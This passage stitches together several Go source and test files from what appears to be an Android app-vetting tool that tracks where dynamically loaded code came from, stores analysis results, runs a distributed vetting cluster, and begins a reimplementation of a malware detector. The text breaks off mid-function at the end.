	for _, name := range classes {
		fmt.Fprintf(w, "class:      %s\n", name)
	}
	var assets []string
	for name := range u.APK.Assets {
		assets = append(assets, name)
	}
	sort.Strings(assets)
	for _, name := range assets {
		fmt.Fprintf(w, "asset:      %s (%d bytes)\n", name, len(u.APK.Assets[name]))
	}
	var libs []string
	for name := range u.APK.NativeLibs {
		libs = append(libs, name)
	}
	sort.Strings(libs)
	for _, name := range libs {
		fmt.Fprintf(w, "native lib: %s (%d bytes)\n", name, len(u.APK.NativeLibs[name]))
	}

	f := obfuscation.PreFilter(u)
	fmt.Fprintf(w, "pre-filter: dex-dcl=%v native-dcl=%v\n", f.HasDexDCL, f.HasNativeDCL)
	var det obfuscation.Detector
	rep := det.AnalyzeUnpacked(u)
	fmt.Fprintf(w, "obfuscation: lexical=%v (meaningful %.0f%%) reflection=%v native=%v dex-encryption=%v\n",
		rep.Lexical, rep.MeaningfulFraction*100, rep.Reflection, rep.Native, rep.DEXEncryption)
	return nil
}
