package trace

import (
	"container/list"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"sync"

	"github.com/dydroid/dydroid/internal/metrics"
)

// ErrNotFound is returned by Store.Get for digests with no stored trace.
var ErrNotFound = errors.New("trace: not found")

// StoreOptions configure a Store.
type StoreOptions struct {
	// Dir, when non-empty, persists traces as <digest>.json files (one
	// JSONL line each) and reloads them on Open. Empty keeps traces in
	// memory only.
	Dir string
	// Cap bounds the number of traces kept; inserting past it evicts the
	// least recently stored/read trace (and deletes its file). Default
	// 512.
	Cap int
	// Metrics, when non-nil, receives the store's occupancy gauge
	// (trace.store.len) and put/eviction counters (trace.store.puts,
	// trace.store.evictions), making dashboard memory pressure visible.
	Metrics *metrics.Registry
}

// Store is a bounded trace store keyed by APK signing digest: the newest
// Cap traces stay available (in memory, and on disk when Dir is set) and
// older ones are evicted. All methods are safe for concurrent use.
type Store struct {
	dir string
	cap int
	reg *metrics.Registry

	mu    sync.Mutex
	order *list.List // front = most recently used; values are *storeEntry
	items map[string]*list.Element
}

type storeEntry struct {
	digest string
	raw    json.RawMessage
}

// OpenStore creates a store, loading any traces already in opts.Dir
// (oldest evicted first when they exceed the cap).
func OpenStore(opts StoreOptions) (*Store, error) {
	if opts.Cap <= 0 {
		opts.Cap = 512
	}
	s := &Store{
		dir:   opts.Dir,
		cap:   opts.Cap,
		reg:   opts.Metrics,
		order: list.New(),
		items: make(map[string]*list.Element),
	}
	if s.dir == "" {
		return s, nil
	}
	if err := os.MkdirAll(s.dir, 0o755); err != nil {
		return nil, fmt.Errorf("trace: %w", err)
	}
	if err := s.load(); err != nil {
		return nil, err
	}
	return s, nil
}

// load restores persisted traces in modification-time order so the LRU
// eviction order survives restarts. Unreadable or malformed files are
// skipped, never fatal — traces are advisory observability data.
func (s *Store) load() error {
	entries, err := os.ReadDir(s.dir)
	if err != nil {
		return fmt.Errorf("trace: %w", err)
	}
	type onDisk struct {
		digest string
		mod    int64
	}
	var found []onDisk
	for _, e := range entries {
		if e.IsDir() || filepath.Ext(e.Name()) != ".json" {
			continue
		}
		digest := e.Name()[:len(e.Name())-len(".json")]
		if !validDigest(digest) {
			continue
		}
		info, err := e.Info()
		if err != nil {
			continue
		}
		found = append(found, onDisk{digest: digest, mod: info.ModTime().UnixNano()})
	}
	sort.Slice(found, func(i, j int) bool { return found[i].mod < found[j].mod })
	for _, f := range found {
		raw, err := os.ReadFile(s.tracePath(f.digest))
		if err != nil || !json.Valid(raw) {
			continue
		}
		s.insert(f.digest, json.RawMessage(raw))
	}
	return nil
}

// validDigest accepts lowercase-hex digests only, keeping trace file
// paths trivially traversal-safe (same rule as the result store).
func validDigest(d string) bool {
	if len(d) < 2 || len(d) > 128 {
		return false
	}
	for _, c := range d {
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

func (s *Store) tracePath(digest string) string {
	return filepath.Join(s.dir, digest+".json")
}

// Put stores the trace under its digest, replacing any previous trace
// and evicting the least recently used one past the cap.
func (s *Store) Put(t *Trace) error {
	if t == nil || !validDigest(t.Digest) {
		return fmt.Errorf("trace: store requires a valid digest, got %q", digestOf(t))
	}
	raw, err := json.Marshal(t)
	if err != nil {
		return fmt.Errorf("trace: %w", err)
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.dir != "" {
		if err := os.WriteFile(s.tracePath(t.Digest), raw, 0o644); err != nil {
			return fmt.Errorf("trace: %w", err)
		}
	}
	s.insert(t.Digest, raw)
	return nil
}

// insert adds or refreshes an entry and applies the cap; callers in the
// write path hold s.mu (load runs before the store is shared).
func (s *Store) insert(digest string, raw json.RawMessage) {
	s.reg.Add("trace.store.puts", 1)
	if el, ok := s.items[digest]; ok {
		el.Value.(*storeEntry).raw = raw
		s.order.MoveToFront(el)
		return
	}
	s.items[digest] = s.order.PushFront(&storeEntry{digest: digest, raw: raw})
	for s.order.Len() > s.cap {
		oldest := s.order.Back()
		s.order.Remove(oldest)
		evicted := oldest.Value.(*storeEntry).digest
		delete(s.items, evicted)
		s.reg.Add("trace.store.evictions", 1)
		if s.dir != "" {
			os.Remove(s.tracePath(evicted))
		}
	}
	s.reg.SetGauge("trace.store.len", int64(s.order.Len()))
}

// GetRaw returns the stored trace's JSON bytes (the exact body the
// daemon serves at /v1/trace/{digest}), or ErrNotFound.
func (s *Store) GetRaw(digest string) (json.RawMessage, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	el, ok := s.items[digest]
	if !ok {
		return nil, ErrNotFound
	}
	s.order.MoveToFront(el)
	return el.Value.(*storeEntry).raw, nil
}

// Get returns the decoded trace for the digest, or ErrNotFound.
func (s *Store) Get(digest string) (*Trace, error) {
	raw, err := s.GetRaw(digest)
	if err != nil {
		return nil, err
	}
	t := new(Trace)
	if err := json.Unmarshal(raw, t); err != nil {
		return nil, fmt.Errorf("trace: decode %s: %w", digest, err)
	}
	return t, nil
}

// Len reports the number of stored traces.
func (s *Store) Len() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.order.Len()
}

func digestOf(t *Trace) string {
	if t == nil {
		return ""
	}
	return t.Digest
}
