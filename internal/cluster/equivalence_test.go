package cluster

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/service"
	"github.com/dydroid/dydroid/internal/telemetry"
	"github.com/dydroid/dydroid/internal/trace"
)

// realWorker boots one genuine vetting daemon (service.Server over the
// full pipeline) on its own httptest server — a separate HTTP process
// boundary from the coordinator and from its peers.
func realWorker(t *testing.T, analyzer *core.Analyzer, queue int) (*service.Server, *httptest.Server) {
	t.Helper()
	traces, err := trace.OpenStore(trace.StoreOptions{})
	if err != nil {
		t.Fatal(err)
	}
	s, err := service.New(service.Config{
		Analyzer:   analyzer,
		Workers:    2,
		QueueDepth: queue,
		Metrics:    metrics.New(),
		Traces:     traces,
	})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(ts.Close)
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		s.Shutdown(ctx)
	})
	return s, ts
}

// scanAll submits every archive to base's /v1/scan, failing the test on
// anything but an accept/cached/pending answer. It returns the digests.
func scanAll(t *testing.T, base string, apps [][]byte) []string {
	t.Helper()
	digests := make([]string, 0, len(apps))
	for i, data := range apps {
		digest, err := apk.SigningDigest(data)
		if err != nil {
			t.Fatal(err)
		}
		digests = append(digests, digest)
		resp, err := http.Post(base+"/v1/scan", "application/octet-stream", bytes.NewReader(data))
		if err != nil {
			t.Fatalf("scan %d: %v", i, err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusAccepted {
			t.Fatalf("scan %d: %d %s", i, resp.StatusCode, body)
		}
	}
	return digests
}

// awaitAll polls base's /v1/result until every digest is terminal
// (served verdict or pinned failure).
func awaitAll(t *testing.T, base string, digests []string) {
	t.Helper()
	deadline := time.Now().Add(3 * time.Minute)
	for _, digest := range digests {
		for {
			resp, err := http.Get(base + "/v1/result/" + digest)
			if err != nil {
				t.Fatalf("result %s: %v", digest, err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK || resp.StatusCode == http.StatusBadGateway {
				break
			}
			if resp.StatusCode != http.StatusAccepted {
				t.Fatalf("result %s: %d %s", digest, resp.StatusCode, body)
			}
			if time.Now().After(deadline) {
				t.Fatalf("digest %s never became terminal", digest)
			}
			time.Sleep(5 * time.Millisecond)
		}
	}
}

// corpusApps builds every archive of a small seeded marketplace.
func corpusApps(t *testing.T, st *corpus.Store) [][]byte {
	t.Helper()
	apps := make([][]byte, 0, len(st.Apps))
	for _, app := range st.Apps {
		data, err := st.BuildAPK(app)
		if err != nil {
			t.Fatalf("build %s: %v", app.Spec.Pkg, err)
		}
		apps = append(apps, data)
	}
	return apps
}

// TestClusterFederationMatchesSingleNode is the tentpole acceptance
// criterion, the shard-merge-equals-unsharded property lifted across
// process boundaries: the same seeded corpus is vetted once by a single
// daemon and once by a 3-worker ring behind a coordinator, and the
// coordinator's federated fleet snapshot renders a MeasurementReport
// byte-identical to the single node's.
func TestClusterFederationMatchesSingleNode(t *testing.T) {
	const seed = 29
	st, err := corpus.Generate(corpus.Config{Seed: seed, Scale: 0.002})
	if err != nil {
		t.Fatal(err)
	}
	apps := corpusApps(t, st)
	if len(apps) < 12 {
		t.Fatalf("corpus too small to shard meaningfully: %d apps", len(apps))
	}
	queue := len(apps) + 8
	newAnalyzer := func() *core.Analyzer {
		return core.NewAnalyzer(core.Options{Seed: seed, Network: st.Network, SetupDevice: st.SetupDevice})
	}

	// Reference: the whole corpus through one node.
	_, single := realWorker(t, newAnalyzer(), queue)
	digests := scanAll(t, single.URL, apps)
	awaitAll(t, single.URL, digests)
	resp, err := http.Get(single.URL + "/v1/fleet")
	if err != nil {
		t.Fatal(err)
	}
	want := new(telemetry.Snapshot)
	if err := json.NewDecoder(resp.Body).Decode(want); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if want.Apps == 0 {
		t.Fatal("single node observed no apps")
	}

	// Same corpus through a 3-worker ring behind a coordinator.
	var stubs []string
	for i := 0; i < 3; i++ {
		_, ts := realWorker(t, newAnalyzer(), queue)
		stubs = append(stubs, ts.URL)
	}
	reg := metrics.New()
	coord, err := New(Config{Nodes: stubs, ProbeInterval: 50 * time.Millisecond, Metrics: reg})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(coord.Close)
	cts := httptest.NewServer(coord.Handler())
	t.Cleanup(cts.Close)

	clusterDigests := scanAll(t, cts.URL, apps)
	awaitAll(t, cts.URL, clusterDigests)

	fresp, err := http.Get(cts.URL + "/v1/fleet")
	if err != nil {
		t.Fatal(err)
	}
	var fr FleetResponse
	if err := json.NewDecoder(fresp.Body).Decode(&fr); err != nil {
		t.Fatal(err)
	}
	fresp.Body.Close()
	if fr.NodesMissing != 0 {
		t.Fatalf("healthy cluster reported %d missing nodes (%v)", fr.NodesMissing, fr.Missing)
	}
	if fr.Snapshot.Apps != want.Apps {
		t.Fatalf("federated apps = %d, single node = %d", fr.Snapshot.Apps, want.Apps)
	}
	// Every worker that analyzed at least one app contributed a shard;
	// normalize the shard count (the only intentionally different field)
	// exactly like the in-process property test does.
	if fr.Snapshot.Shards != 3 {
		t.Fatalf("federated shards = %d, want 3", fr.Snapshot.Shards)
	}
	fr.Snapshot.Shards = want.Shards
	if got, wantRep := fr.Snapshot.MeasurementReport(), want.MeasurementReport(); got != wantRep {
		t.Fatalf("federated measurement report diverges from single node:\n--- cluster ---\n%s\n--- single ---\n%s", got, wantRep)
	}

	// No scan fell back to a non-owner: with every node live, routed and
	// forwarded counts agree.
	if got := reg.Counter("cluster.scan.failover"); got != 0 {
		t.Fatalf("healthy cluster recorded %d failovers", got)
	}

	// CI keeps the cluster status of this run as an artifact.
	if path := os.Getenv("CLUSTER_STATUS_ARTIFACT"); path != "" {
		var buf strings.Builder
		RenderStatus(&buf, coord.Status())
		fmt.Fprintf(&buf, "\nfederated: %d nodes, %d missing, %d apps, %d errors\n",
			fr.Nodes, fr.NodesMissing, fr.Snapshot.Apps, fr.Snapshot.Errors)
		if err := os.WriteFile(path, []byte(buf.String()), 0o644); err != nil {
			t.Fatalf("write status artifact: %v", err)
		}
	}
}

// TestClusterWorkerDeathMidRun kills one real worker while a corpus
// streams through the ring: the dead node is ejected, its scans fail
// over at request level, and after resubmission every digest resolves
// from a live node — no lost scan.
func TestClusterWorkerDeathMidRun(t *testing.T) {
	var apps [][]byte
	for i := 0; i < 30; i++ {
		apps = append(apps, tinyAPK(t, fmt.Sprintf("com.death.app%d", i)))
	}
	queue := len(apps) + 8
	var workers []*httptest.Server
	var nodes []string
	for i := 0; i < 3; i++ {
		_, ts := realWorker(t, core.NewAnalyzer(core.Options{}), queue)
		workers = append(workers, ts)
		nodes = append(nodes, ts.URL)
	}
	reg := metrics.New()
	coord, err := New(Config{
		Nodes: nodes, ProbeInterval: 25 * time.Millisecond, ProbeFailures: 2, Metrics: reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(coord.Close)
	cts := httptest.NewServer(coord.Handler())
	t.Cleanup(cts.Close)

	// First third lands while all three nodes are up.
	digests := scanAll(t, cts.URL, apps[:10])

	// Kill one worker mid-run. Requests owned by it must fail over.
	workers[0].Close()
	digests = append(digests, scanAll(t, cts.URL, apps[10:])...)
	if got := reg.Counter("cluster.scan.unroutable"); got != 0 {
		t.Fatalf("%d scans found no live node", got)
	}
	waitFor(t, "ejection of the dead worker", func() bool {
		return !nodeStatus(coord, workers[0].URL).Healthy
	})
	if got := reg.Counter("cluster.ejected"); got < 1 {
		t.Fatalf("cluster.ejected = %d", got)
	}

	// Verdicts that died with the worker are re-landed by resubmitting
	// through the ring — placement now routes them to live owners.
	scanAll(t, cts.URL, apps)
	awaitAll(t, cts.URL, digests)
	for _, digest := range digests {
		resp, err := http.Get(cts.URL + "/v1/result/" + digest)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("digest %s lost after failover: %d %s", digest, resp.StatusCode, body)
		}
		if node := resp.Header.Get("X-Dydroid-Node"); node == workers[0].URL {
			t.Fatalf("digest %s served by the dead node", digest)
		}
	}
}
