package core

import (
	"fmt"
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"

	"github.com/dydroid/dydroid/internal/netsim"
)

// chainSpec describes one randomly generated object-flow chain ending in
// a file write; fromURL says whether the chain originates at a URL
// (remote) or at a local file/buffer (local).
type chainSpec struct {
	fromURL bool
	hops    int
	path    string
	url     string
}

// buildChain replays the spec through the netsim object world, emitting
// the same Table I events real app execution would.
func buildChain(fac *netsim.Factory, spec chainSpec) {
	var in *netsim.InputStream
	if spec.fromURL {
		// URL -> InputStream, as Network.OpenStream emits after a fetch.
		u := fac.NewURL(spec.url)
		in = u.OpenWith([]byte("data-from-" + spec.url))
	} else {
		src := fac.NewFile("/data/local/seed-" + spec.path)
		in = src.Open([]byte("local-data"))
	}
	// A random number of wrapping hops (InputStream -> InputStream,
	// Buffer round-trips) before the final write.
	for i := 0; i < spec.hops; i++ {
		switch i % 3 {
		case 0:
			in = in.Wrap()
		case 1:
			buf := in.ReadAll()
			in = buf.AsInputStream()
		case 2:
			buf := in.ReadAll()
			tmp := fac.NewOutputStream("")
			tmp.Write(buf)
			in = tmp.ToBuffer().AsInputStream()
		}
	}
	out := fac.NewOutputStream(spec.path)
	for {
		b := in.Read(8)
		if b == nil {
			break
		}
		out.Write(b)
	}
	out.CloseToFile()
}

func TestPropertyTrackerProvenance(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 60,
		Values: func(vals []reflect.Value, r *rand.Rand) {
			n := 1 + r.Intn(6)
			specs := make([]chainSpec, n)
			for i := range specs {
				specs[i] = chainSpec{
					fromURL: r.Intn(2) == 0,
					hops:    r.Intn(5),
					path:    fmt.Sprintf("/data/data/app/cache/f%d.dex", i),
					url:     fmt.Sprintf("http://host%d.example/p%d.jar", r.Intn(3), i),
				}
			}
			vals[0] = reflect.ValueOf(specs)
		},
	}
	prop := func(specs []chainSpec) bool {
		tracker := NewTracker()
		fac := netsim.NewFactory(tracker)
		for _, spec := range specs {
			buildChain(fac, spec)
		}
		for _, spec := range specs {
			prov, url := tracker.Provenance(spec.path)
			if spec.fromURL {
				if prov != ProvenanceRemote || url != spec.url {
					return false
				}
			} else if prov != ProvenanceLocal {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestTrackerFileRenamePreservesProvenance(t *testing.T) {
	tracker := NewTracker()
	fac := netsim.NewFactory(tracker)
	buildChain(fac, chainSpec{fromURL: true, hops: 1,
		path: "/data/data/a/cache/tmp.jar", url: "http://x.example/p.jar"})
	// File -> File: the app renames the download before loading it.
	var fv *netsim.FileValue
	// Re-bind: the rename emits a fresh File object for the destination.
	fv = fac.NewFile("/data/data/a/cache/tmp.jar")
	fv.CopyTo("/data/data/a/files/final.jar")
	prov, url := tracker.Provenance("/data/data/a/files/final.jar")
	if prov != ProvenanceRemote || url != "http://x.example/p.jar" {
		t.Fatalf("provenance after rename = %s %s", prov, url)
	}
}
