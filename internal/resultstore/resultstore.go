// Package resultstore is the durable verdict cache behind the online
// vetting service: a sharded, content-addressed store keyed by the APK
// signing digest. Records are JSON envelopes on disk under
// shards/<prefix>/<digest>.json with an in-memory LRU front, written
// atomically (temp file + rename) so a crash mid-Put never exposes a
// partial record. Records that fail to parse or whose digest does not
// match their key are moved to quarantine/ instead of being served, and
// an envelope version lets pipeline changes invalidate stale verdicts
// wholesale.
package resultstore

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
)

// ErrNotFound is returned by Get when no servable record exists for the
// digest — absent, stale-versioned, and quarantined records all report it
// so callers treat every non-hit as a plain cache miss.
var ErrNotFound = errors.New("resultstore: not found")

// shardPrefixLen is the number of leading digest characters naming the
// shard directory; 2 hex chars give 256 shards, keeping directory fan-out
// flat at marketplace scale.
const shardPrefixLen = 2

// Options configure a Store.
type Options struct {
	// Dir is the store root (created if missing).
	Dir string
	// Version stamps every record written; Get treats records carrying a
	// different version as misses. Bump it whenever the analysis pipeline
	// changes in a way that invalidates old verdicts.
	Version int
	// CacheSize bounds the in-memory LRU front (entries, default 512;
	// negative disables the cache).
	CacheSize int
}

// Store is a content-addressed result store. All methods are safe for
// concurrent use.
type Store struct {
	dir     string
	version int

	mu  sync.Mutex // serializes disk writes and quarantine moves
	lru *lruCache

	hits        atomic.Int64
	misses      atomic.Int64
	puts        atomic.Int64
	cacheHits   atomic.Int64
	stale       atomic.Int64
	quarantined atomic.Int64

	// writeRecord is the file-write seam; tests inject failures here to
	// prove crash consistency. Defaults to writeFileSync.
	writeRecord func(f *os.File, data []byte) error
}

// Stats is a point-in-time view of the store's traffic counters.
type Stats struct {
	// Hits / Misses split Get calls; CacheHits counts the subset of hits
	// served from the LRU without touching disk.
	Hits      int64
	Misses    int64
	CacheHits int64
	// Puts counts successful writes.
	Puts int64
	// Stale counts records skipped for carrying an old version.
	Stale int64
	// Quarantined counts corrupt records moved aside.
	Quarantined int64
}

// envelope is the on-disk record format. Data is kept raw so the store is
// agnostic to what the pipeline serves.
type envelope struct {
	Version int             `json:"version"`
	Digest  string          `json:"digest"`
	Data    json.RawMessage `json:"data"`
}

// Open creates or reopens a store rooted at opts.Dir.
func Open(opts Options) (*Store, error) {
	if opts.Dir == "" {
		return nil, errors.New("resultstore: empty dir")
	}
	for _, d := range []string{opts.Dir, filepath.Join(opts.Dir, "shards"), filepath.Join(opts.Dir, "quarantine")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			return nil, fmt.Errorf("resultstore: %w", err)
		}
	}
	size := opts.CacheSize
	if size == 0 {
		size = 512
	}
	s := &Store{
		dir:         opts.Dir,
		version:     opts.Version,
		writeRecord: writeFileSync,
	}
	if size > 0 {
		s.lru = newLRU(size)
	}
	return s, nil
}

// validDigest accepts lowercase-hex digests only, which keeps shard paths
// trivially traversal-safe.
func validDigest(d string) bool {
	if len(d) < shardPrefixLen || len(d) > 128 {
		return false
	}
	for _, c := range d {
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

func (s *Store) shardPath(digest string) string {
	return filepath.Join(s.dir, "shards", digest[:shardPrefixLen], digest+".json")
}

// Get returns the stored record data for the digest, or ErrNotFound.
// Corrupt records (unparseable, or keyed under a digest that does not
// match their envelope) are quarantined on sight and reported as misses.
func (s *Store) Get(digest string) (json.RawMessage, error) {
	if !validDigest(digest) {
		return nil, fmt.Errorf("resultstore: invalid digest %q", digest)
	}
	if s.lru != nil {
		if data, ok := s.lru.get(digest); ok {
			s.hits.Add(1)
			s.cacheHits.Add(1)
			return data, nil
		}
	}
	raw, err := os.ReadFile(s.shardPath(digest))
	if err != nil {
		if os.IsNotExist(err) {
			s.misses.Add(1)
			return nil, ErrNotFound
		}
		return nil, fmt.Errorf("resultstore: %w", err)
	}
	var env envelope
	if err := json.Unmarshal(raw, &env); err != nil || env.Digest != digest {
		s.quarantine(digest)
		s.misses.Add(1)
		return nil, ErrNotFound
	}
	if env.Version != s.version {
		s.stale.Add(1)
		s.misses.Add(1)
		return nil, ErrNotFound
	}
	if s.lru != nil {
		s.lru.put(digest, env.Data)
	}
	s.hits.Add(1)
	return env.Data, nil
}

// Put stores data under the digest, replacing any previous record. The
// write is atomic: the record is staged in a temp file in the shard
// directory and renamed into place, so readers (and crashes) never see a
// partial record.
func (s *Store) Put(digest string, data json.RawMessage) error {
	if !validDigest(digest) {
		return fmt.Errorf("resultstore: invalid digest %q", digest)
	}
	raw, err := json.Marshal(envelope{Version: s.version, Digest: digest, Data: data})
	if err != nil {
		return fmt.Errorf("resultstore: %w", err)
	}
	dst := s.shardPath(digest)
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
		return fmt.Errorf("resultstore: %w", err)
	}
	f, err := os.CreateTemp(filepath.Dir(dst), ".put-*")
	if err != nil {
		return fmt.Errorf("resultstore: %w", err)
	}
	tmp := f.Name()
	if err := s.writeRecord(f, raw); err != nil {
		f.Close()
		os.Remove(tmp)
		return fmt.Errorf("resultstore: put %s: %w", digest, err)
	}
	if err := f.Close(); err != nil {
		os.Remove(tmp)
		return fmt.Errorf("resultstore: put %s: %w", digest, err)
	}
	if err := os.Rename(tmp, dst); err != nil {
		os.Remove(tmp)
		return fmt.Errorf("resultstore: put %s: %w", digest, err)
	}
	if s.lru != nil {
		s.lru.put(digest, data)
	}
	s.puts.Add(1)
	return nil
}

// quarantine moves a corrupt shard file aside so it is never served again
// but stays available for post-mortem inspection. A digest-named
// destination keeps the move idempotent.
func (s *Store) quarantine(digest string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	src := s.shardPath(digest)
	dst := filepath.Join(s.dir, "quarantine", digest+".json")
	if err := os.Rename(src, dst); err != nil {
		// A concurrent quarantine already moved it; dropping the file
		// would also be acceptable, losing only forensic data.
		os.Remove(src)
	}
	if s.lru != nil {
		s.lru.remove(digest)
	}
	s.quarantined.Add(1)
}

// Stats snapshots the traffic counters.
func (s *Store) Stats() Stats {
	return Stats{
		Hits:        s.hits.Load(),
		Misses:      s.misses.Load(),
		CacheHits:   s.cacheHits.Load(),
		Puts:        s.puts.Load(),
		Stale:       s.stale.Load(),
		Quarantined: s.quarantined.Load(),
	}
}

// Len reports the number of records on disk (stale and fresh alike); it
// walks the shard tree, so it is for tooling and tests, not hot paths.
func (s *Store) Len() (int, error) {
	n := 0
	err := filepath.WalkDir(filepath.Join(s.dir, "shards"), func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() && filepath.Ext(path) == ".json" {
			n++
		}
		return nil
	})
	return n, err
}

// writeFileSync writes and syncs the staged record; the sync guarantees
// the rename never publishes a name pointing at unwritten data after a
// power cut.
func writeFileSync(f *os.File, data []byte) error {
	if _, err := f.Write(data); err != nil {
		return err
	}
	return f.Sync()
}
