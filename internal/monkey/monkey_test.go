package monkey

import (
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/vm"
)

func install(t *testing.T, dev *android.Device, pkg string, build func(*dex.Builder)) *android.InstalledApp {
	t.Helper()
	b := dex.NewBuilder()
	build(b)
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	m := apk.Manifest{Package: pkg, MinSDK: 16}
	if b.File().FindClass(pkg+".Main") != nil {
		m.Application.Activities = []apk.Component{{Name: pkg + ".Main", Main: true}}
	}
	app, err := dev.Packages.Install(&apk.APK{Manifest: m, Dex: dexBytes})
	if err != nil {
		t.Fatal(err)
	}
	return app
}

func TestExerciseFiresCallbacksDeterministically(t *testing.T) {
	pkg := "com.monkey.app"
	build := func(b *dex.Builder) {
		act := b.Class(pkg+".Main", "android.app.Activity")
		act.Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
		counter := dex.FieldRef{Class: pkg + ".Main", Name: "clicks", Type: "I"}
		cb := act.Method("onClickPlay", dex.ACCPublic, 4, "V")
		cb.SGet(1, counter).
			Const(2, 1).
			Add(1, 1, 2).
			SPut(1, counter).
			ReturnVoid().Done()
		act.Method("onClickStop", dex.ACCPublic, 2, "V").ReturnVoid().Done()
	}
	results := make([]Result, 2)
	for i := range results {
		dev := android.NewDevice()
		app := install(t, dev, pkg, build)
		m, err := vm.New(dev, nil, app, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		results[i] = Exercise(m, 20, 77)
	}
	for _, r := range results {
		if r.Outcome != OutcomeExercised || r.EventsFired != 20 {
			t.Fatalf("result = %+v", r)
		}
	}
}

func TestExerciseNoActivity(t *testing.T) {
	dev := android.NewDevice()
	app := install(t, dev, "com.monkey.svc", func(b *dex.Builder) {
		b.Class("com.monkey.svc.Worker", "android.app.Service").
			Method("onStart", dex.ACCPublic, 2, "V").ReturnVoid().Done()
	})
	m, err := vm.New(dev, nil, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := Exercise(m, 10, 1)
	if r.Outcome != OutcomeNoActivity {
		t.Fatalf("outcome = %s", r.Outcome)
	}
}

func TestExerciseCrashInCallback(t *testing.T) {
	pkg := "com.monkey.crash"
	dev := android.NewDevice()
	app := install(t, dev, pkg, func(b *dex.Builder) {
		act := b.Class(pkg+".Main", "android.app.Activity")
		act.Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
		cb := act.Method("onClickBoom", dex.ACCPublic, 2, "V")
		cb.ConstString(1, "RuntimeException").Throw(1).Done()
	})
	m, err := vm.New(dev, nil, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := Exercise(m, 10, 1)
	if r.Outcome != OutcomeCrash || r.Err == nil {
		t.Fatalf("result = %+v", r)
	}
}

func TestExerciseCrashAtLaunch(t *testing.T) {
	pkg := "com.monkey.launchcrash"
	dev := android.NewDevice()
	app := install(t, dev, pkg, func(b *dex.Builder) {
		act := b.Class(pkg+".Main", "android.app.Activity")
		m := act.Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;")
		m.ConstString(1, "boom").Throw(1).Done()
	})
	m, err := vm.New(dev, nil, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := Exercise(m, 10, 1)
	if r.Outcome != OutcomeCrash || r.EventsFired != 0 {
		t.Fatalf("result = %+v", r)
	}
}

func TestExerciseNoCallbacks(t *testing.T) {
	pkg := "com.monkey.idle"
	dev := android.NewDevice()
	app := install(t, dev, pkg, func(b *dex.Builder) {
		b.Class(pkg+".Main", "android.app.Activity").
			Method("onCreate", dex.ACCPublic, 2, "V", "Landroid/os/Bundle;").ReturnVoid().Done()
	})
	m, err := vm.New(dev, nil, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := Exercise(m, 10, 1)
	if r.Outcome != OutcomeExercised || r.EventsFired != 0 {
		t.Fatalf("result = %+v", r)
	}
}
