// Package droidnative reimplements the DroidNative malware detector the
// paper uses on intercepted binaries (§III-C): binaries are lifted to MAIL
// (internal/mail), turned into Annotated Control Flow Graphs (ACFGs), and
// matched against trained malware-family samples by parallel subgraph
// matching. A test binary is flagged when more than MatchThreshold of a
// training sample's ACFG has a parallel match — the paper's 90% rule.
package droidnative

import (
	"fmt"
	"sort"

	"github.com/dydroid/dydroid/internal/mail"
)

// MatchThreshold is the default ACFG coverage required to flag a sample
// (paper: "flags a malware when the degree of match is over 90%").
const MatchThreshold = 0.90

// ACFG is the annotated control flow graph of one function: blocks carry
// their MAIL pattern signatures, edges the successor indices.
type ACFG struct {
	Name   string
	Blocks []ACFGBlock
}

// ACFGBlock is one annotated block.
type ACFGBlock struct {
	Sig   string
	Succs []int
}

// BuildACFGs lifts a MAIL program into one ACFG per function.
func BuildACFGs(p *mail.Program) []ACFG {
	out := make([]ACFG, 0, len(p.Functions))
	for _, fn := range p.Functions {
